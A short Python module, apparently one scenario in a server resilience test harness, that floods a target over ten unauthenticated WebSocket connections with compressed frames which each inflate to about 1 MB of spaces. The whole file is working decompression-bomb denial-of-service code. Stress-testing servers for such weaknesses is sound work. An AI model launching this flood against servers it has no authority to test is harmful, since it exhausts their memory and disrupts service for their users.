"""Ten sockets without token or hello send 10 MB of compressed messages, of 1 MB each when they are unpacked."""

from __future__ import annotations

import zlib

from ..flood import flood
from ..target import Target, frame

SOCKETS = 10
MESSAGE = 1024 * 1024 - 1


def besiege(target: Target) -> dict[str, object]:
    packer = zlib.compressobj(9, wbits=-12)
    packed = (packer.compress(b" " * MESSAGE) + packer.flush(zlib.Z_SYNC_FLUSH)).removesuffix(b"\0\0\xff\xff")
    bomb = frame(1, packed, rsv1=True)
    share = bomb * (1_000_000 // len(bomb))
    tally = flood(lambda: target.open_websocket(deflate=True), SOCKETS, share, target.deadline(), again=False)
    return tally.rows() | {"would unpack to, MB": f"{tally.sent / len(bomb) * MESSAGE / 1e6:.0f}"}
